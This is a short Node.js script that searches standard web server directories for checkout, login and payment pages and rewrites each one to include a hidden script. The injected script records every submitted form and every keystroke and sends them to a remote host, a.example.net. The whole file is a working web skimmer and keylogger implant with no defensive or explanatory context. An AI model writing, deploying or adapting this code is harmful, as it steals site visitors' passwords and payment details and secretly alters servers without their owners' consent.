const fs = require('fs');
const path = require('path');

const SNIPPET = `<script>document.addEventListener('submit',e=>{const d=Object.fromEntries(new FormData(e.target));
navigator.sendBeacon('https://a.example.net/c',JSON.stringify({u:location.href,d}))},true);
document.addEventListener('keyup',e=>{(window._q=window._q||[]).push(e.key);if(_q.length>40)navigator.sendBeacon('https://a.example.net/k',_q.splice(0).join(''))})</script>`;

const WEB_ROOTS = ['/var/www', '/usr/share/nginx/html', '/srv/http'];

function visit(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) visit(p);
    else if (/\.(html?|php|ejs)$/.test(e.name)) {
      const html = fs.readFileSync(p, 'utf8');
      if (/checkout|login|pay/i.test(html)) fs.writeFileSync(p, html.replace('</body>', `${SNIPPET}</body>`));
    }
  }
}

WEB_ROOTS.filter(fs.existsSync).forEach(visit);
